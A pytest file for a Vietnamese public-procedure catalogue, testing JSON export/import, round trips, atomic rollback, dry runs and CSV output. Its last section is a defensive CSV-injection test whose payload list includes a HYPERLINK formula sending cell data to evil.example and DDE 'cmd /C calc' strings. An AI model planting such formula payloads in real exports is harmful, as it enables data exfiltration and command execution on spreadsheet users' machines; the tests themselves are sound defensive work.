"""The catalogue file: export, import, round trip, atomicity, CSV."""

import csv
import io
import json

import pytest

from services.catalogue import transfer
from services.db import db
from services.errors import ValidationError
from services.models import Procedure
from tests.helpers import procedure_raw


def _document(*procedures, agencies=None, fields=None, settings=None):
    return {
        "format": "tthc-catalogue",
        "version": 1,
        "settings": settings or {},
        "agencies": agencies or [],
        "fields": fields or [],
        "procedures": list(procedures),
    }


def _count(app):
    with app.app_context():
        return db.session.query(Procedure).count()


def test_demo_round_trip_is_identical(demo_app, app):
    with demo_app.app_context():
        first = transfer.dumps(transfer.export_catalogue())
    with app.app_context():
        transfer.import_catalogue(json.loads(first))
        second = transfer.dumps(transfer.export_catalogue())
    assert first == second
    assert len(json.loads(first)["procedures"]) >= 60


def test_reimport_reports_unchanged(demo_app):
    with demo_app.app_context():
        document = transfer.export_catalogue()
        report = transfer.import_catalogue(document)
    assert report.procedures["unchanged"] == len(document["procedures"])
    assert report.procedures["created"] == report.procedures["updated"] == 0
    assert report.agencies["unchanged"] == len(document["agencies"])


def test_forward_references_resolve(app):
    old = procedure_raw(code="1.000001", status="abolished", replaced_by="1.000002")
    new = procedure_raw(code="1.000002")
    agencies = [
        {"slug": "con", "name": "Con", "parent": "me", "successor": "moi"},
        {"slug": "me", "name": "Mẹ"},
        {"slug": "moi", "name": "Mới"},
    ]
    with app.app_context():
        report = transfer.import_catalogue(_document(old, new, agencies=agencies))
        exported = transfer.export_catalogue()
    assert report.procedures["created"] == 2
    by_code = {p["code"]: p for p in exported["procedures"]}
    assert by_code["1.000001"]["replaced_by"] == "1.000002"
    con = next(a for a in exported["agencies"] if a["slug"] == "con")
    assert (con["parent"], con["successor"]) == ("me", "moi")
    slugs = [a["slug"] for a in exported["agencies"]]
    assert slugs.index("me") < slugs.index("con")  # parents first


def test_invalid_procedure_is_skipped_and_reported(app):
    bad = procedure_raw(code="1.000009", channels=[{"kind": "fax"}])
    with app.app_context():
        report = transfer.import_catalogue(_document(procedure_raw(code="1.000001"), bad))
    assert report.procedures["created"] == 1
    assert report.skipped[0].label == "1.000009"
    assert "channels.0.kind" in report.skipped[0].reason


def test_unknown_agency_is_skipped_not_fatal(app):
    raw = procedure_raw(agencies=[{"role": "implementing", "agency": "khong-co", "name": ""}])
    with app.app_context():
        report = transfer.import_catalogue(_document(raw, procedure_raw()))
    assert report.procedures["created"] == 1
    assert len(report.skipped) == 1


def test_failed_import_leaves_catalogue_as_it_was(app):
    with app.app_context():
        transfer.import_catalogue(_document(procedure_raw(code="1.000001")))
    before = _count(app)
    broken = _document(
        procedure_raw(code="1.000002"),
        agencies=[{"slug": "a", "name": "A", "parent": "khong-co"}],
    )
    with app.app_context(), pytest.raises(ValidationError):
        transfer.import_catalogue(broken)
    assert _count(app) == before


def test_dry_run_changes_nothing(app):
    with app.app_context():
        report = transfer.import_catalogue(_document(procedure_raw()), dry_run=True)
    assert report.procedures["created"] == 1
    assert _count(app) == 0


def test_read_document_rejects_other_files(tmp_path):
    other = tmp_path / "other.json"
    other.write_text('{"hello": 1}', encoding="utf-8")
    broken = tmp_path / "broken.json"
    broken.write_text("{", encoding="utf-8")
    future = tmp_path / "future.json"
    future.write_text('{"format": "tthc-catalogue", "version": 99}', encoding="utf-8")
    for path in (other, broken, future):
        with pytest.raises(ValidationError):
            transfer.read_document(path)


def test_csv_lists_public_procedures(demo_app):
    with demo_app.app_context():
        text = transfer.procedures_csv()
        public = db.session.query(Procedure).filter(
            Procedure.status.in_(["published", "abolished"])
        )
        codes = {p.code for p in public}
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][0] == "Mã"
    assert {row[0] for row in rows[1:]} == codes


# --- formulas in the CSV (OWASP "CSV injection") -----------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",  # the catalogue strips a leading tab or CR: what is left must still be text
    "\r=1+1",
]


def _csv_rows(client):
    response = client.get("/thu-tuc.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_route_never_writes_a_live_formula(client, make_agency, make_procedure, name):
    make_agency(slug="co-quan-x", name="=cmd|' /C calc'!A0")
    code = make_procedure(
        code="9.000001",
        name=name,
        fields=["@lĩnh vực"],
        agencies=[{"role": "implementing", "agency": "co-quan-x", "name": ""}],
    ).code
    rows = _csv_rows(client)
    row = next(r for r in rows if r[0] == code)
    stored = name.lstrip("\t\r")
    assert row[1] == "'" + stored  # shown as the text it is, not evaluated
    assert row[2] == "'=cmd|' /C calc'!A0"
    assert row[3] == "'@lĩnh vực"
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_keeps_ordinary_text_as_it_is(client, make_procedure):
    code = make_procedure(code="9.000002", name="Đăng ký khai sinh (bản sao) - lần 2").code
    row = next(r for r in _csv_rows(client) if r[0] == code)
    assert row[1] == "Đăng ký khai sinh (bản sao) - lần 2"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_spreadsheet_cell_quotes_every_formula_start(start):
    assert transfer.spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"
    assert transfer.spreadsheet_cell(f"a{start}1") == f"a{start}1"
